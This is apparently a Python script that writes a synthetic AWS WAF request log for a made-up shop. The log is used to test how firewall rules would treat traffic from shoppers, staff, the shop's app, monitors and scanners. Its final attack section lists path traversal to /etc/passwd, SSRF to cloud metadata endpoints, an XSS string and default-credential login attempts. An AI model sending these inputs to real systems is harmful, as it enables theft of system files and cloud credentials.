#!/usr/bin/env python3
"""Writes requests.ndjson: the recorded requests of the demo shop, one native record a line.

Everything is made up: addresses from the documentation ranges (RFC 5737, RFC 3849), account
111122223333, hosts under shop.example. The visits below are listed by hand; only tokens, request
ids and pauses come from a seeded generator of our own, so that every machine writes the same bytes.

Usage: python3 generate.py [OUTPUT]     (default: requests.ndjson beside this file)
"""

import json
import sys
from pathlib import Path

HOST = "shop.example"
START = 1792047600000  # 2026-10-15 07:00:00 UTC
ACL = "arn:aws:wafv2:eu-central-1:111122223333:regional/webacl/"
STAGING = ACL + "shop-staging/5f0c6a52-7d1e-4c0b-9a53-2f6f1f0b7a11"
LEGACY = ACL + "shop-legacy/1c2d3e4f-5a6b-4c7d-8e9f-0a1b2c3d4e5f"


class Dice:
    """splitmix64: small, seeded, and the same in every Python."""

    def __init__(self, seed):
        self.state = seed

    def next(self):
        self.state = (self.state + 0x9E3779B97F4A7C15) & 0xFFFFFFFFFFFFFFFF
        z = self.state
        z = ((z ^ (z >> 30)) * 0xBF58476D1CE4E5B9) & 0xFFFFFFFFFFFFFFFF
        z = ((z ^ (z >> 27)) * 0x94D049BB133111EB) & 0xFFFFFFFFFFFFFFFF
        return z ^ (z >> 31)

    def below(self, bound):
        return self.next() % bound

    def text(self, length, alphabet="abcdefghijklmnopqrstuvwxyz0123456789"):
        return "".join(alphabet[self.below(len(alphabet))] for _ in range(length))

    def hex(self, length):
        return self.text(length, "0123456789abcdef")


dice = Dice(20261015)

CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/141.0.0.0 Safari/537.36")
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0"
SAFARI = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
          "(KHTML, like Gecko) Version/18.6 Safari/605.1.15")
IPHONE = ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 "
          "(KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1")
ANDROID = ("Mozilla/5.0 (Linux; Android 15; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/141.0.0.0 Mobile Safari/537.36")
EDGE = CHROME + " Edg/141.0.0.0"


class Client:
    """Someone who sends requests: address, country, agent, protocol, cookies."""

    def __init__(self, address, country, agent, version="HTTP/2.0", language="en", **more):
        self.address = address
        self.country = country
        self.agent = agent
        self.version = version
        self.language = language
        self.cookies = more.get("cookies", True)
        self.accept = more.get("accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8")
        self.extra = more.get("extra", [])
        self.session = dice.text(32)
        self.csrf = dice.text(32)


# address, country, agent, protocol, language
SHOPPERS = [
    Client("198.51.100.11", "DE", CHROME, "HTTP/2.0", "de-DE,de;q=0.9,en;q=0.6"),
    Client("198.51.100.12", "DE", FIREFOX, "HTTP/2.0", "de,en-US;q=0.7,en;q=0.3"),
    Client("198.51.100.17", "DE", IPHONE, "HTTP/2.0", "de-DE,de;q=0.9"),
    Client("198.51.100.23", "AT", ANDROID, "HTTP/2.0", "de-AT,de;q=0.9"),
    Client("198.51.100.29", "CH", SAFARI, "HTTP/2.0", "de-CH,fr;q=0.7"),
    Client("198.51.100.31", "FR", CHROME, "HTTP/2.0", "fr-FR,fr;q=0.9,en;q=0.5"),
    Client("198.51.100.36", "FR", IPHONE, "HTTP/2.0", "fr-FR,fr;q=0.9"),
    Client("198.51.100.40", "NL", EDGE, "HTTP/2.0", "nl-NL,nl;q=0.9"),
    Client("198.51.100.44", "PL", ANDROID, "HTTP/2.0", "pl-PL,pl;q=0.9"),
    Client("198.51.100.52", "ES", FIREFOX, "HTTP/1.1", "es-ES,es;q=0.8"),
    Client("198.51.100.57", "IT", CHROME, "HTTP/2.0", "it-IT,it;q=0.9"),
    Client("198.51.100.61", "SE", SAFARI, "HTTP/2.0", "sv-SE,sv;q=0.9"),
    Client("198.51.100.73", "DK", EDGE, "HTTP/1.1", "da-DK,da;q=0.9"),
    Client("198.51.100.88", "GB", CHROME, "HTTP/2.0", "en-GB,en;q=0.9"),
    Client("198.51.100.91", "GB", IPHONE, "HTTP/2.0", "en-GB,en;q=0.9"),
    Client("198.51.100.97", "IE", ANDROID, "HTTP/1.1", "en-IE,en;q=0.9"),
    Client("198.51.100.104", "US", CHROME, "HTTP/2.0", "en-US,en;q=0.9"),
    Client("198.51.100.110", "US", SAFARI, "HTTP/2.0", "en-US,en;q=0.9"),
    Client("198.51.100.118", "CA", FIREFOX, "HTTP/1.1", "en-CA,fr-CA;q=0.7"),
    Client("198.51.100.123", "JP", CHROME, "HTTP/2.0", "ja,en;q=0.6"),
    Client("198.51.100.131", "BR", ANDROID, "HTTP/2.0", "pt-BR,pt;q=0.9"),
    Client("198.51.100.140", "IN", CHROME, "HTTP/1.1", "en-IN,hi;q=0.6"),
    Client("2001:db8:10::21", "DE", FIREFOX, "HTTP/2.0", "de,en;q=0.5"),
    Client("2001:db8:10::5a", "NL", CHROME, "HTTP/2.0", "nl,en;q=0.5"),
    Client("2001:db8:4f::7", "BE", IPHONE, "HTTP/2.0", "nl-BE,fr-BE;q=0.8"),
    Client("2001:db8:90::c3", "-", ANDROID, "HTTP/2.0", "en"),
]

STAFF = [
    Client("203.0.113.8", "DE", CHROME, "HTTP/2.0", "de-DE,de;q=0.9"),
    Client("203.0.113.9", "DE", FIREFOX, "HTTP/1.1", "de,en;q=0.5"),
    Client("203.0.113.14", "AT", SAFARI, "HTTP/2.0", "de-AT,de;q=0.9"),
    Client("2001:db8:20::8", "DE", EDGE, "HTTP/2.0", "de-DE,de;q=0.9"),
]

WAREHOUSE = Client("203.0.113.40", "DE", "warehouse-sync/2.3", "HTTP/1.1", None, cookies=False,
                   accept="application/json",
                   extra=[("Authorization", "Token 0f0e0d0c0b0a09080706050403020100")])
APP = Client("198.51.100.150", "DE", "ShopApp/5.1 (iOS 18.6)", "HTTP/2.0", "de", cookies=False,
             accept="application/json", extra=[("X-Api-Key", "demo-key-not-a-secret")])
PAYMENTS = Client("203.0.113.77", "IE", None, "HTTP/1.1", None, cookies=False, accept="*/*",
                  extra=[("X-Signature", "t=1792050000,v1=3f1d0c9b8a77665544332211")])
PROBE = Client("192.0.2.66", "DE", "uptime-monitor/1.8 (+https://status.example/bot)", "HTTP/1.1",
               None, cookies=False, accept="*/*")
SILENT_PROBE = Client("192.0.2.70", "NL", None, "HTTP/1.1", None, cookies=False, accept="*/*")
# A second monitor that nobody put into the IP set.
STRAY_PROBE = Client("192.0.2.130", "US", None, "HTTP/1.1", None, cookies=False, accept="*/*")
CRAWLER = Client("192.0.2.150", "US", "ExampleBot/2.1 (+https://search.example/bot.html)",
                 "HTTP/1.1", None, cookies=False)

SCANNER = Client("203.0.113.200", "US", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)", "HTTP/1.1",
                 None, cookies=False, accept="*/*")
MAPPER = Client("203.0.113.201", "NL",
                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
                "HTTP/1.1", None, cookies=False, accept="*/*")
PROBER = Client("203.0.113.202", "BR", "python-requests/2.32.3", "HTTP/1.1", None, cookies=False,
                accept="*/*")
INTRUDER = Client("203.0.113.203", "RU", "curl/8.9.1", "HTTP/1.1", None, cookies=False,
                  accept="*/*")

records = []  # (time, sequence, record)


def record(at, client, method, uri, args="", *, fields=(), body=None, size=None, chunked=False,
           content_type=None, acl=STAGING, expect=None, redact=()):
    """Adds one request.

    body: recorded text. size: declared by content-length and counted by the service, not recorded.
    chunked, or a POST with neither: the recording has no word about the body.
    """
    capital = client.version == "HTTP/1.1"
    headers = [("Host", HOST)]
    if client.agent is not None:
        headers.append(("User-Agent", client.agent))
    headers.append(("Accept", client.accept))
    if client.language is not None:
        headers.append(("Accept-Language", client.language))
    headers.append(("Accept-Encoding", "gzip, deflate, br"))
    if client.cookies:
        headers.append(("Cookie", f"sessionid={client.session}; csrftoken={client.csrf}"))
    headers += client.extra
    headers += fields
    if content_type:
        headers.append(("Content-Type", content_type))
    if body is not None:
        size = len(body.encode())
    if size is not None:
        headers.append(("Content-Length", str(size)))
    elif chunked:
        headers.append(("Transfer-Encoding", "chunked"))
    shown = []
    for name, value in headers:
        # A load balancer capitalises Host in HTTP/2; every other name is in lower case there.
        name = name if capital or name == "Host" else name.lower()
        shown.append({"name": name, "value": "REDACTED" if name.lower() in redact else value})
    request = {
        "clientIp": client.address, "country": client.country, "headers": shown, "uri": uri,
        "args": args, "httpVersion": client.version, "httpMethod": method,
        "requestId": f"1-{at // 1000:08x}-{dice.hex(24)}", "fragment": "", "scheme": "https",
        "host": HOST,
    }
    if body is not None:
        request["body"] = body
    whole = {"timestamp": at, "formatVersion": 1}
    if acl is not None:
        whole["webaclId"] = acl
    whole |= {
        "terminatingRuleId": "Default_Action", "terminatingRuleType": "REGULAR", "action": "ALLOW",
        "terminatingRuleMatchDetails": [], "httpSourceName": "ALB",
        "httpSourceId": "111122223333-app/shop-blue/0f1e2d3c4b5a6978", "ruleGroupList": [],
        "rateBasedRuleList": [], "nonTerminatingMatchingRules": [],
        "requestHeadersInserted": None, "responseCodeSent": None, "httpRequest": request,
    }
    if size:
        whole["requestBodySize"] = size
        whole["requestBodySizeInspectedByWAF"] = min(size, 8192)
    if expect is not None:
        whole["wafcast"] = {"expect": expect}
    records.append((at, len(records), whole))


class Visit:
    """A run of requests of one client with human pauses."""

    def __init__(self, client, minute):
        self.client = client
        self.at = START + minute * 60000 + dice.below(20000)

    def send(self, method, uri, args="", **more):
        record(self.at, self.client, method, uri, args, **more)
        self.at += 400 + dice.below(9000)
        return self

    def get(self, uri, args="", **more):
        return self.send("GET", uri, args, **more)

    def assets(self, *paths, referer="/"):
        for path in paths:
            record(self.at, self.client, "GET", path,
                   fields=[("Referer", f"https://{HOST}{referer}")])
            self.at += 30 + dice.below(200)
        return self

    def form(self, uri, text, **more):
        """A form post whose body the recording has."""
        token = f"csrfmiddlewaretoken={self.client.csrf}"
        fields = [("Origin", f"https://{HOST}"), ("Referer", f"https://{HOST}{uri}")]
        return self.send("POST", uri, body=f"{token}&{text}" if text else token, fields=fields,
                         content_type="application/x-www-form-urlencoded", **more)

    def unrecorded(self, uri, args="", **more):
        """A post of which the log has neither body nor size."""
        chunked = self.client.version == "HTTP/1.1"
        fields = [("Origin", f"https://{HOST}"), ("Referer", f"https://{HOST}{uri}")]
        return self.send("POST", uri, args, fields=fields, chunked=chunked,
                         content_type="application/x-www-form-urlencoded", **more)

    def json(self, method, uri, value, **more):
        return self.send(method, uri, body=json.dumps(value, separators=(",", ":")),
                         content_type="application/json", **more)

    def upload(self, uri, size):
        boundary = f"----WebKitFormBoundary{dice.text(16)}"
        return self.send("POST", uri, size=size,
                         content_type=f"multipart/form-data; boundary={boundary}",
                         fields=[("Origin", f"https://{HOST}"),
                                 ("Referer", f"https://{HOST}{uri}")])


FRONT = ("/static/css/shop.4f2a9c.css", "/static/js/shop.b81d03.js", "/static/img/logo.svg")
PRODUCTS = [
    (42, "kettle-steel"), (7, "mug-blue"), (118, "teapot-cast-iron"), (63, "filter-cone"),
    (201, "grinder-hand"), (88, "scale-digital"), (15, "beans-1kg"), (150, "press-glass"),
]


def browse(client, minute, first, second, search=None):
    """Front page, two products, perhaps a search."""
    visit = Visit(client, minute).get("/").assets(*FRONT)
    number, slug = PRODUCTS[first]
    visit.get(f"/products/{number}", fields=[("Referer", f"https://{HOST}/")])
    visit.assets(f"/media/products/{slug}.webp", referer=f"/products/{number}")
    if search:
        visit.get("/search/", search)
    number, _ = PRODUCTS[second]
    return visit.get(f"/products/{number}", "from=related")


# Shoppers who look around.
browse(SHOPPERS[0], 3, 0, 1, "q=kettle")
browse(SHOPPERS[1], 9, 2, 3)
browse(SHOPPERS[3], 14, 4, 5, "q=grinder&page=2")
browse(SHOPPERS[6], 26, 6, 7)
browse(SHOPPERS[9], 35, 1, 0, "q=taza+azul")
browse(SHOPPERS[10], 41, 3, 2)
browse(SHOPPERS[11], 52, 5, 4, "q=kaffev%C3%A5g&sort=price")
browse(SHOPPERS[12], 66, 0, 7)
browse(SHOPPERS[17], 95, 7, 6, "q=french+press")
browse(SHOPPERS[19], 121, 0, 2, "q=%E3%82%B1%E3%83%88%E3%83%AB")
browse(SHOPPERS[21], 133, 4, 6)
browse(SHOPPERS[22], 150, 2, 5, "q=Waage")
browse(SHOPPERS[24], 171, 1, 3)
browse(SHOPPERS[25], 188, 6, 0)
Visit(SHOPPERS[8], 58).get("/").get("/categories/coffee/").get("/categories/coffee/", "page=2") \
    .get("/products/63").get("/impressum/").get("/favicon.ico")
Visit(SHOPPERS[18], 110).get("/").get("/blog/").get("/blog/how-we-roast/").get("/contact/")
Visit(SHOPPERS[20], 127).get("/").get("/sitemap.xml").get("/robots.txt").get("/products/150")

# Shoppers who buy, with recorded bodies.
browse(SHOPPERS[2], 20, 0, 6) \
    .form("/cart/add/", "product=42&quantity=1") \
    .get("/cart/") \
    .get("/accounts/login/", "next=/checkout/") \
    .form("/accounts/login/", "username=mara%40mail.example&password=correct-horse-7") \
    .get("/checkout/") \
    .form("/checkout/", "name=Mara+Voss&street=Lindenweg+4&zip=10115&city=Berlin&pay=invoice") \
    .get("/checkout/done/", "order=5017")
browse(SHOPPERS[5], 30, 4, 1) \
    .form("/cart/add/", "product=201&quantity=1") \
    .get("/cart/").form("/cart/update/", "line=1&quantity=2").get("/checkout/") \
    .form("/checkout/", "name=Luc+Martel&street=Rue+des+Lilas+9&zip=75020&city=Paris&pay=card") \
    .get("/checkout/done/", "order=5018")
browse(SHOPPERS[13], 74, 5, 6) \
    .form("/accounts/login/", "username=ada%40mail.example&password=blue-lantern-19") \
    .form("/cart/add/", "product=88&quantity=1").get("/cart/").get("/checkout/") \
    .form("/checkout/", "name=Ada+Finch&street=7+Mill+Lane&zip=LS1+4AP&city=Leeds&pay=card")
Visit(SHOPPERS[16], 88).get("/accounts/login/") \
    .form("/accounts/login/", "username=sam%40mail.example&password=paper-moon-3") \
    .get("/accounts/orders/").get("/accounts/orders/4980/")

# Shoppers who buy; the recording has no bodies.
browse(SHOPPERS[4], 24, 2, 0) \
    .unrecorded("/cart/add/").get("/cart/").unrecorded("/accounts/login/").get("/checkout/") \
    .unrecorded("/checkout/").get("/checkout/done/", "order=5019")
browse(SHOPPERS[7], 47, 3, 4).unrecorded("/cart/add/").unrecorded("/cart/add/").get("/cart/") \
    .unrecorded("/cart/update/").unrecorded("/checkout/")
browse(SHOPPERS[14], 80, 0, 5).unrecorded("/accounts/login/").unrecorded("/cart/add/") \
    .get("/cart/").unrecorded("/checkout/")
browse(SHOPPERS[15], 83, 6, 2).unrecorded("/cart/add/").get("/cart/") \
    .unrecorded("/accounts/register/").unrecorded("/checkout/")
browse(SHOPPERS[23], 160, 7, 1).unrecorded("/cart/add/").unrecorded("/cart/coupon/") \
    .get("/cart/").unrecorded("/checkout/")
Visit(SHOPPERS[12], 69).get("/contact/").unrecorded("/contact/").get("/contact/thanks/")
Visit(SHOPPERS[9], 142).get("/newsletter/").unrecorded("/newsletter/") \
    .unrecorded("/newsletter/confirm/", "token=" + dice.text(24))
for step, shopper in enumerate((0, 1, 3, 6, 10, 11, 17, 19, 21, 22, 24)):
    Visit(SHOPPERS[shopper], 196 + 3 * step).get("/products/42/reviews/") \
        .unrecorded("/products/42/reviews/")

# Photos with reviews and a return: larger than the body limit of a load balancer.
Visit(SHOPPERS[0], 12).get("/products/42/reviews/").upload("/products/42/reviews/photo/", 21504)
Visit(SHOPPERS[2], 63).upload("/accounts/returns/5003/photo/", 48211) \
    .upload("/accounts/returns/5003/photo/", 59870)
Visit(SHOPPERS[13], 101).upload("/products/88/reviews/photo/", 33790)
Visit(SHOPPERS[22], 155).upload("/accounts/avatar/", 24063)
Visit(SHOPPERS[24], 176).upload("/products/7/reviews/photo/", 40960)
Visit(SHOPPERS[17], 99).upload("/accounts/avatar/", 6120)  # small enough

# A filter link that somebody shares: a query of more than 2,048 bytes.
Visit(SHOPPERS[16], 92).get(
    "/search/", "q=tea&" + "&".join(f"facet=colour%3A{dice.text(12)}" for _ in range(80)))

# The app and the warehouse talk JSON.
app = Visit(APP, 16)
app.get("/api/v2/products/", "limit=20").get("/api/v2/products/42/") \
    .json("POST", "/api/v2/sessions/", {"device": "b1946ac9", "grant": "device"}) \
    .json("PUT", "/api/v2/basket/", {"lines": [{"product": 42, "quantity": 1}]}) \
    .json("PATCH", "/api/v2/basket/lines/1/", {"quantity": 3}) \
    .send("DELETE", "/api/v2/basket/lines/1/") \
    .json("POST", "/api/v2/orders/", {"basket": "bsk_77", "note": "Please ring twice"}) \
    .get("/api/v2/orders/5020/")
app.json("POST", "/api/v2/push/", {"token": dice.hex(64), "topics": ["orders", "offers"]})
Visit(APP, 118).get("/api/v2/products/", "limit=20&cursor=" + dice.text(20)) \
    .unrecorded("/api/v2/orders/").unrecorded("/api/v2/events/").unrecorded("/api/v2/events/")
for round_ in range(6):
    Visit(WAREHOUSE, 5 + 40 * round_) \
        .get("/api/v2/stock/", f"since=2026-10-15T{7 + round_:02d}:00Z") \
        .json("POST", "/api/v2/stock/", {"sku": f"SKU-{100 + round_}", "delta": -round_}) \
        .json("POST", "/api/v2/shipments/", {"order": 5001 + round_, "carrier": "post"})
# Legitimate, and yet an address as host in a URL.
Visit(WAREHOUSE, 130).json("PUT", "/api/v2/hooks/stock/", {"url": "http://203.0.113.40:8080/hook"})
# The payment provider calls back without a User-Agent.
for minute, order in ((22, 5017), (33, 5018), (77, 5019), (165, 5021)):
    Visit(PAYMENTS, minute).json("POST", "/payments/webhook/",
                                 {"type": "charge.succeeded", "order": order})

# Health checks.
for minute in range(0, 240, 10):
    Visit(PROBE, minute).get("/healthz")
for minute in range(5, 240, 30):
    Visit(SILENT_PROBE, minute).get("/healthz")
for minute in range(8, 240, 40):
    Visit(STRAY_PROBE, minute).get("/healthz")
Visit(PROBE, 236).get("/healthz", expect={"action": "ALLOW", "rule": "monitoring-probes"})

# Search engine.
Visit(CRAWLER, 62).get("/robots.txt").get("/sitemap.xml").get("/products/42").get("/products/7") \
    .get("/categories/tea/").get("/blog/how-we-roast/").get("/products/118")

# Staff: this is what a rollout of the web ACL would take away.
ada = Visit(STAFF[0], 2)
ada.get("/admin").get("/admin/").get("/admin/login/", "next=/admin/") \
    .form("/admin/login/", "username=ada.staff&password=seven-teal-otters&next=%2Fadmin%2F") \
    .get("/admin/").assets("/static/admin/css/base.css", "/static/admin/js/core.js",
                           referer="/admin/") \
    .get("/admin/shop/order/").get("/admin/shop/order/", "status__exact=open&p=2") \
    .get("/admin/shop/order/17/change/") \
    .form("/admin/shop/order/17/change/", "status=packed&note=gift+wrap&_save=Save") \
    .get("/admin/shop/order/")
ben = Visit(STAFF[1], 28)
ben.get("/admin/").get("/admin/login/", "next=/admin/") \
    .form("/admin/login/", "username=ben.staff&password=quiet-granite-42&next=%2Fadmin%2F") \
    .get("/admin/shop/product/").get("/admin/shop/product/", "q=kettle") \
    .get("/admin/shop/product/42/change/") \
    .form("/admin/shop/product/42/change/", "price=39.90&stock=120&_continue=Save") \
    .get("/admin/shop/product/42/history/").get("/admin/jsi18n/") \
    .upload("/admin/shop/product/42/photo/", 52340)
cleo = Visit(STAFF[2], 70)
cleo.get("/admin/").unrecorded("/admin/login/", "next=/admin/").get("/admin/") \
    .get("/admin/shop/order/").get("/admin/shop/order/19/change/") \
    .unrecorded("/admin/shop/order/19/change/").get("/admin/shop/order/20/change/") \
    .unrecorded("/admin/shop/order/20/change/").get("/admin/auth/user/") \
    .get("/admin/auth/user/8/change/").unrecorded("/admin/auth/user/8/password/")
dora = Visit(STAFF[3], 140)
blocked = {"action": "BLOCK", "rule": "admin-protection/AdminProtection_URIPATH"}
dora.get("/admin").get("/admin/login/", "next=/admin/", expect=blocked) \
    .unrecorded("/admin/login/").get("/admin/").get("/admin/shop/coupon/") \
    .get("/admin/shop/coupon/add/").unrecorded("/admin/shop/coupon/add/") \
    .get("/admin/shop/coupon/", "e=1").get("/admin/logout/")
Visit(STAFF[0], 192).get("/admin/").get("/admin/shop/order/31/change/") \
    .form("/admin/shop/order/31/change/", "status=shipped&tracking=00340434161094&_save=Save") \
    .get("/admin/shop/report/", "month=2026-09").get("/admin/logout/")
Visit(STAFF[1], 201).get("/").get("/products/42").get("/admin/").get("/admin/shop/order/33/change/")

# Attacks: a few, each against something the managed groups are documented to look for.
Visit(SCANNER, 44).get("/").get("/config.ini").get("/access.log").get("/sqlmanager/") \
    .get("/admin").get("/phpmyadmin/").get("/wp-login.php").get("/blog/WP-login.php")
Visit(MAPPER, 45).get("/").send("OPTIONS", "/").get("/nmaplowercheck1792050300")
Visit(PROBER, 90).get("/.env").get("/.env.bak").get("/backup/site.log").get("/wp-login.php") \
    .get("/xmlrpc.php").get("/sqlmanager/index.php").get("/admin/.git/config") \
    .form("/accounts/login/", "username=admin&password=admin") \
    .form("/accounts/login/", "username=admin&password=123456") \
    .form("/accounts/login/", "username=root&password=toor")
Visit(INTRUDER, 136).get("/download/", "file=../../etc/passwd") \
    .get("/download/", "file=%2e%2e%2f%2e%2e%2fetc%2fpasswd") \
    .get("/download/", "file=%252e%252e%252f%252e%252e%252fetc%252fpasswd") \
    .get("/preview/", "url=http://198.51.100.7/shell.txt") \
    .get("/preview/", "url=http://169.254.169.254/latest/meta-data/") \
    .get("/preview/", "url=https://cdn.example/banner.png") \
    .get("/media/..%2f..%2fsettings.py") \
    .form("/preview/", "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fuser-data") \
    .get("/search/", "q=%3Cscript%3Ealert(1)%3C/script%3E") \
    .get("/%61dmin/").get("//admin")

# Recordings that are incomplete or belong elsewhere.
Visit(SHOPPERS[1], 180).get("/accounts/orders/", redact=("cookie",))
Visit(SHOPPERS[5], 184).get("/products/15", acl=LEGACY).get("/cart/", acl=LEGACY)
Visit(STAFF[2], 186).get("/admin/", acl=LEGACY)
Visit(SHOPPERS[10], 190).get("/products/118", acl=None).get("/", acl=None)


def main():
    here = Path(__file__).resolve().parent
    path = Path(sys.argv[1]) if len(sys.argv) > 1 else here / "requests.ndjson"
    records.sort(key=lambda entry: entry[:2])
    lines = [json.dumps(entry[2], separators=(",", ":"), ensure_ascii=False) for entry in records]
    path.write_bytes(("\n".join(lines) + "\n").encode())


main()
